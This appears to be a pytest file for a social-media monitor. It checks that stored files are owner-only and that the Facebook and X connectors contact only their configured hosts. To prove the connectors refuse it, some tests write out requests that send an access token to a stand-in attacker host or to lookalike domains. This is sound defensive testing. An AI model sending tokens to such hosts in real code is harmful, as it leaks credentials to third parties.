"""What the monitor writes to disk is readable by its owner only, and it talks over HTTP only to configured hosts."""
from __future__ import annotations

import os
import stat
from datetime import datetime, timedelta, timezone
from pathlib import Path
from urllib.parse import urlparse

import pytest
import requests

from connectors.base import TransientError
from monitor.settings import AccountSettings
from tests.connectors.fake_graph import PAGE_ID, TOKEN, FakeGraph
from tests.connectors.fake_x import ME, FakeX

NOW = datetime.now(timezone.utc)


def _mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture
def usual_umask():
    previous = os.umask(0o022)  # the usual default: group and others could read what is not protected
    yield
    os.umask(previous)


def test_the_database_and_its_journal_files_are_readable_by_the_owner_only(tmp_path, usual_umask, make_app):
    from monitor.models import ConsentRecord

    app = make_app(f"sqlite:///{tmp_path / 'var' / 'monitor.db'}")
    with app.db.transaction() as session:
        session.add(ConsentRecord(post_id="1", given_by="Robin Fictional", given_at=NOW))
        with app.db.engine.connect() as other:  # a second connection keeps -wal and -shm in place
            other.exec_driver_sql("SELECT 1").all()
    paths = [tmp_path / "var" / name for name in ("monitor.db", "monitor.db-wal", "monitor.db-shm")]
    assert all(p.exists() for p in paths[:2]), "WAL mode keeps a write-ahead log beside the database"
    for path in paths:
        if path.exists():
            assert _mode(path) == 0o600, f"{path.name} is {oct(_mode(path))}"


def test_the_outbox_folder_and_its_messages_are_readable_by_the_owner_only(tmp_path, usual_umask, make_app, sqlite_url):
    from monitor.notifier import flush_outbox
    from monitor.outbox import enqueue

    app = make_app(sqlite_url, outbox={"folder": str(tmp_path / "var" / "outbox")})
    with app.db.transaction() as session:
        enqueue(session, app.settings, dedupe_key="t:1", kind="alert", route="comms", subject="A complaint",
                body_text="Robin Fictional wrote: call me on 07700 900123.\n")
    assert flush_outbox(app).sent == 1
    folder = tmp_path / "var" / "outbox"
    assert _mode(folder) == 0o700
    messages = list(folder.glob("*.eml"))
    assert messages and all(_mode(p) == 0o600 for p in messages)


def test_the_model_folder_is_readable_by_the_owner_only(tmp_path, usual_umask):
    from classifiers.complaint_store import ModelBundle, save_bundle

    # The files' modes do not depend on the model: a bundle of plain values stands in for a trained one.
    bundle = ModelBundle(model=None, version="test", corpus_hash="0", corrections=[], thresholds={}, metrics={},
                         trained_at=NOW.isoformat())
    folder = tmp_path / "var" / "models"
    save_bundle(bundle, folder)
    assert _mode(folder) == 0o700
    assert len(list(folder.iterdir())) == 2
    for path in folder.iterdir():
        assert _mode(path) == 0o600, path.name


class _HostRecorder:
    """Every HTTP request's host, recorded at the transport adapter: nothing leaves without passing it."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.hosts: list[str] = []
        original = requests.adapters.HTTPAdapter.send

        def send(adapter, request, *args, **kwargs):
            self.hosts.append(urlparse(request.url).netloc)
            return original(adapter, request, *args, **kwargs)

        monkeypatch.setattr(requests.adapters.HTTPAdapter, "send", send)


def _facebook(graph_url: str):
    from connectors.facebook import FacebookConnector
    from connectors.options import FacebookOptions

    options = FacebookOptions(page_id=PAGE_ID, access_token=TOKEN, graph_url=graph_url, timeout=2.0,
                              streams=["feed", "comments"])
    return FacebookConnector(AccountSettings(name="fb", connector="facebook", options=options))


def test_graph_paging_links_to_another_host_are_never_followed(monkeypatch):
    graph = FakeGraph()
    graph.start()
    try:
        for n in range(60):  # several feed pages, and nested comment pages
            graph.add_post(f"{PAGE_ID}_{n}", f"Post {n}", NOW - timedelta(hours=1, minutes=n), {"id": "7", "name": "A"})
        for n in range(40):
            graph.add_comment(f"{PAGE_ID}_0", f"{PAGE_ID}_0_{n}", f"Comment {n}", NOW - timedelta(minutes=50 - n),
                              {"id": "8", "name": "B"})
        real = graph.base_url
        graph.base_url = real.replace("127.0.0.1", "127.0.0.2")  # every paging.next now names another host
        recorder = _HostRecorder(monkeypatch)
        connector = _facebook(real)
        batch = connector.fetch(None)
        connector.close()
    finally:
        graph.stop()
    assert len(batch.items) == 100, "every page was read, through the configured host"
    assert set(recorder.hosts) == {urlparse(real).netloc}


def test_a_graph_request_to_another_host_is_refused_before_it_is_sent(monkeypatch):
    recorder = _HostRecorder(monkeypatch)
    connector = _facebook("http://127.0.0.1:9/")
    with pytest.raises(TransientError, match="ForeignHostRefused"):
        connector.client._call(lambda: connector.client.session.get("https://attacker.invalid/collect",
                                                                    params={"access_token": TOKEN}))
    with pytest.raises(requests.RequestException):
        connector.client.session.get("https://graph.facebook.com.attacker.invalid/v23.0/me")
    assert recorder.hosts == []


def test_x_requests_go_only_to_the_configured_api_host(monkeypatch):
    from connectors.options import TwitterOptions
    from connectors.twitter import TwitterConnector

    x = FakeX().start()
    try:
        people = [x.user(f"22000000{n:02d}", f"person{n}", f"Person {n}") for n in range(3)]
        for n in range(45):  # several pages of mentions: tweepy pages by next_token
            x.post(people[n % 3], f"@HWDerbyshire question {n}", NOW - timedelta(minutes=90 - n))
        recorder = _HostRecorder(monkeypatch)
        options = TwitterOptions(user_id=ME["id"], bearer_token="b-token", api_url=x.base_url, timeout=2.0,
                                 streams=["mentions"])
        connector = TwitterConnector(AccountSettings(name="x", connector="twitter", options=options))
        items = []
        cursor = None
        for _ in range(20):
            batch = connector.fetch(cursor)
            items += batch.items
            cursor = batch.next_cursor
            if not batch.has_more:
                break
        with pytest.raises(requests.RequestException):
            connector.session.get("https://api.twitter.com.attacker.invalid/2/users/me")
        connector.close()
    finally:
        x.stop()
    assert len(items) == 45
    assert set(recorder.hosts) == {urlparse(x.base_url).netloc}
